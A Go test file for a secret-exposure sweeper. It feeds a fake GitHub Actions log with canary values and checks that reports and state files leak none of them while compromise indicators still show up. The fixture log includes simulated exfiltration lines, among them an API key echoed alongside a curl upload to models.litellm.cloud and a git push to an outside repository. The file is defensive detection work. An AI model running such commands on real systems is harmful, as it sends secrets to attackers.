package ghorg

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/litesweep/litesweep/render"
	"github.com/litesweep/litesweep/sweep"
	"github.com/litesweep/litesweep/targets/ghorg/ghfake"
)

// canaryLog is a runner log whose matching lines carry unique canaries
// next to the indicator: credentials in URLs, echoed values, option
// values, query strings. GitHub masks registered secrets as ***; these
// are values it does not know about.
const canaryLog = "\ufeff2026-03-24T11:02:00.0000000Z Current runner version: '2.322.0'\n" +
	"2026-03-24T11:02:00.1000000Z ##[group]GITHUB_TOKEN Permissions\n" +
	"2026-03-24T11:02:00.1100000Z Contents: write\n" +
	"2026-03-24T11:02:00.1200000Z Contents: CANARYPERM01\n" +
	"2026-03-24T11:02:00.1300000Z ##[endgroup]\n" +
	"2026-03-24T11:02:00.2000000Z Download action repository 'aquasecurity/trivy-action@0.28.0' (SHA:c5967f85626795f647d4bf6eb67227f9b79e02f5) CANARYDL02\n" +
	"2026-03-24T11:02:01.0000000Z ##[group]Run pip install --index-url https://ci:CANARYURL03@pypi.internal/simple litellm\n" +
	"2026-03-24T11:02:01.1000000Z pip install --index-url https://ci:CANARYURL03@pypi.internal/simple litellm\n" +
	"2026-03-24T11:02:01.2000000Z ##[endgroup]\n" +
	"2026-03-24T11:02:02.0000000Z Collecting litellm from https://ci:CANARYURL04@pypi.internal/simple/litellm/\n" +
	"2026-03-24T11:02:03.0000000Z   Downloading https://u:CANARYURL05@files.internal/litellm-1.82.8-py3-none-any.whl (7.4 MB)\n" +
	"2026-03-24T11:02:04.0000000Z Successfully installed litellm-1.82.8 TOKEN=CANARYECHO06\n" +
	"2026-03-24T11:02:05.0000000Z  + litellm==1.82.7 -p CANARYOPT07\n" +
	"2026-03-24T11:02:06.0000000Z ##[group]Run echo $OPENAI_KEY CANARYSTEP08 | tee out\n" +
	"2026-03-24T11:02:06.1000000Z ##[endgroup]\n" +
	"2026-03-24T11:02:07.0000000Z sk-CANARYECHO09 curl -s https://models.litellm.cloud/v1/upload?k=CANARYQ10\n" +
	"2026-03-24T11:02:08.0000000Z git push https://x:CANARYPUSH11@github.com/acme/tpcp-docs\n" +
	"2026-03-24T11:02:09.0000000Z Installing litellm (1.82.8) --password CANARYPW12\n" +
	"2026-03-24T11:02:10.0000000Z Post job cleanup.\n" +
	"2026-03-24T11:02:10.5000000Z Terminate orphan process: pid (2417) (curl) CANARYPID13\n"

// canaryWorkflow installs from an index URL with credentials in a job
// whose log expired.
const canaryWorkflow = `name: ci
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: pip install -i https://u:CANARYWF14@idx.internal/simple litellm CANARYPOS15==1.0 && echo CANARYWF16
        env:
          KEY: ${{ secrets.KEY }}
`

var canaryRe = regexp.MustCompile(`CANARY[A-Z]*[0-9]{2}`)

// TestCanaryNeverInCIEvidence: CI evidence is built from allow-listed parts
// of the log (the install phrase and distribution, the action reference,
// the indicator string, line numbers, allow-listed step names), so no
// canary reaches any output format, the state file or an error message.
func TestCanaryNeverInCIEvidence(t *testing.T) {
	f := ghfake.New(testToken)
	t.Cleanup(f.Close)
	at := time.Date(2026, 3, 24, 11, 0, 0, 0, time.UTC)
	sha := strings.Repeat("c", 40)
	f.AddOrg("canary", &ghfake.Repo{Name: "svc", Branch: "main", Created: at,
		Workflows: map[int64]string{61: ".github/workflows/ci.yml"},
		Files:     map[string]string{"README.md": "x\n"},
		At:        map[string]map[string]string{sha: {".github/workflows/ci.yml": canaryWorkflow}},
		Runs: []*ghfake.Run{{ID: 601, WorkflowID: 61, Name: "ci", HeadSHA: sha, Event: "push", Created: at, Duration: 20 * time.Minute,
			Jobs: []*ghfake.Job{
				{ID: 6011, Name: "test", Log: canaryLog, Steps: []ghfake.Step{
					{Name: "Set up job", Number: 1, Start: at.Add(2 * time.Minute), Stop: at.Add(2*time.Minute + time.Second)},
					{Name: "Run pip install --index-url https://ci:CANARYAPI17@pypi.internal/simple litellm", Number: 2, Start: at.Add(2*time.Minute + time.Second), Stop: at.Add(2*time.Minute + 5*time.Second)},
				}},
				{ID: 6012, Name: "build", LogStatus: 410},
			}}}})
	statePath := filepath.Join(t.TempDir(), "state.json")
	sw, _ := newSweeper(t, f, func(c *Options) { c.Orgs, c.StatePath = []string{"canary"}, statePath })
	res, err := sw.Run(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	// The canaries sat next to real indicators: the sweep must still
	// report them.
	var log, likely *sweep.Finding
	for i := range res.Findings {
		switch {
		case res.Findings[i].Category == "ci-log":
			log = &res.Findings[i]
		case strings.Contains(res.Findings[i].Title, "likely exposed"):
			likely = &res.Findings[i]
		}
	}
	if log == nil || likely == nil || len(log.Evidence.Details) < 8 {
		t.Fatalf("findings %+v", res.Findings)
	}
	rep := &sweep.Report{Findings: res.Findings, Errors: res.Errors, Rotation: planned(t, res), Timeline: res.Timeline, Stats: res.Stats,
		Scan: sweep.Scan{Kind: "github", Targets: res.Targets, Coverage: res.Coverage}}
	rep.Finalize()
	outs := map[string]string{}
	for _, format := range render.Formats {
		var buf bytes.Buffer
		if err := render.Write(&buf, format, rep, render.Options{}); err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		outs[format] = buf.String()
	}
	j, _ := json.Marshal(res)
	outs["result"] = string(j)
	st, err := os.ReadFile(statePath)
	if err != nil {
		t.Fatal(err)
	}
	outs["state"] = string(st)
	for name, o := range outs {
		if m := canaryRe.FindAllString(o, -1); len(m) > 0 {
			i := strings.Index(o, m[0])
			t.Errorf("%s output carries canaries %q: …%s…", name, m, o[max(0, i-100):min(len(o), i+30)])
		}
	}
	// The evidence kept what matters: line numbers, steps, the matched parts.
	d := strings.Join(log.Evidence.Details, "\n")
	for _, want := range []string{"line 12, step \"Run pip install …\": Successfully installed litellm-1.82.8",
		"Download action repository 'aquasecurity/trivy-action@0.28.0'", "models.litellm.cloud", "tpcp-docs",
		"line 11, step \"Run pip install …\": Downloading litellm-1.82.8 [", "+ litellm==1.82.7", "Installing litellm (1.82.8)"} {
		if !strings.Contains(d, want) {
			t.Errorf("evidence lacks %q:\n%s", want, d)
		}
	}
	if likely.Evidence.Text != "pip install litellm …" {
		t.Errorf("likely-exposed command %q", likely.Evidence.Text)
	}
}
